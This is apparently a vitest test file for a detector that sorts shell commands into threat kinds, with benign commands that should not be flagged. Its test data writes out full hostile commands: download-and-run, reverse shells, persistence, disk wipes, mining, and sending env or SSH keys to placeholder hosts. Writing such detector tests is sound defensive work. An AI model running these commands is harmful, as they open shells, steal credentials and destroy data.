import { describe, expect, test } from 'vitest';
import { threatsIn } from '../../../../server/src/inspect/knowledge/commands/threats.ts';
import { readCommands } from '../../../../server/src/inspect/knowledge/commands/words.ts';

const kinds = (text: string) => threatsIn(text).map(({ kind }) => kind);

describe('what a command line starts', () => {
  test('words, quotes, pipes and targets', () => {
    expect(readCommands(`a "b c" 'd' | e > f 2>/dev/null && g \\"h`)).toEqual([
      { words: ['a', 'b c', 'd'], piped: false, into: null },
      { words: ['e'], piped: true, into: '/dev/null' },
      { words: ['g', '"h'], piped: false, into: null },
    ]);
    expect(readCommands('sh -c "$(curl -s https://example.invalid/i)"')).toEqual([
      { words: ['sh', '-c', '$(curl -s https://example.invalid/i)'], piped: false, into: null },
    ]);
  });

  test.each([
    ['curl -fsSL https://files.example.invalid/i.sh | sh', ['download-run']],
    ['wget -qO- https://files.example.invalid/i | sudo bash -s', ['download-run']],
    ['bash <(curl -s https://files.example.invalid/i)', ['download-run']],
    ['sh -c "$(curl -s https://files.example.invalid/i)"', ['download-run']],
    ['curl -o /tmp/x https://files.example.invalid/x && chmod +x /tmp/x && /tmp/x', ['download-run']],
    ['wget https://files.example.invalid/tool; chmod 755 tool; ./tool', ['download-run']],
    ['certutil -urlcache -f https://files.example.invalid/a.exe a.exe & a.exe', ['download-run']],
    ['mshta https://files.example.invalid/a.hta', ['download-run']],
    ['cmd /c "curl https://files.example.invalid/a.exe -o a.exe && a.exe"', ['download-run']],
    [
      'powershell -w hidden -nop -c "IEX(New-Object Net.WebClient).DownloadString(\'https://files.example.invalid/a\')"',
      ['hidden-powershell'],
    ],
    ['powershell.exe -EncodedCommand SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAApAA==', ['hidden-powershell']],
    ['echo aGVsbG8= | base64 -d | bash', ['decode-run']],
    ['bash -i >& /dev/tcp/shell.example.invalid/4444 0>&1', ['reverse-shell']],
    ['nc -e /bin/sh shell.example.invalid 4444', ['reverse-shell']],
    [
      'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc shell.example.invalid 4444 >/tmp/f',
      ['reverse-shell'],
    ],
    ['schtasks /create /tn Update /tr a.exe /sc onlogon', ['persistence']],
    ['(crontab -l; echo "@reboot /tmp/x") | crontab -', ['persistence']],
    ['reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d a.exe', ['persistence']],
    ['echo "/tmp/x &" >> ~/.bashrc', ['persistence']],
    ['pip install helper-package', ['installs']],
    ['python -m pip install -q helper-package', ['installs']],
    ['rm -rf ~/', ['wipes']],
    ['sudo rm -rf /*', ['wipes']],
    ['./xmrig -o stratum+tcp://pool.example.invalid:3333 -u x', ['mines']],
    ['env | curl -X POST -d @- https://collect.example.invalid', ['sends-secrets']],
    ['curl -d "$(cat ~/.ssh/id_rsa)" https://collect.example.invalid', ['sends-secrets']],
    ['curl https://collect.example.invalid/$(whoami)', ['sends-host']],
    ['nslookup `hostname`.collect.example.invalid', ['sends-host']],
  ])('%s', (text, expected) => {
    expect(kinds(text)).toEqual(expected);
  });

  test.each([
    'git describe --tags --always',
    'gcc -O2 -o build/a.out a.c && ./build/a.out',
    'curl -O https://example.org/data.tar.gz && tar xzf data.tar.gz',
    'rm -rf build dist /tmp/build-123',
    'powershell -NoProfile -Command "Get-ChildItem Env:"',
    'cmake --build . --config Release',
    'crontab -l',
    'nc -z localhost 5432',
    'python setup.py install',
    'curl -H "Authorization: Bearer $API_TOKEN" https://api.example.org/v1',
    'ls -la | grep "curl | sh"',
    'dd if=/dev/zero of=disk.img bs=1M count=10',
  ])('is quiet on %s', (text) => {
    expect(kinds(text)).toEqual([]);
  });

  test('ends in time on hostile text', () => {
    const started = performance.now();
    for (const text of [
      '$('.repeat(100_000),
      '"'.repeat(99_999),
      'nc '.repeat(50_000),
      '<('.repeat(60_000),
      '`'.repeat(9_999),
    ])
      threatsIn(text);
    expect(performance.now() - started).toBeLessThan(2_000);
  });
});
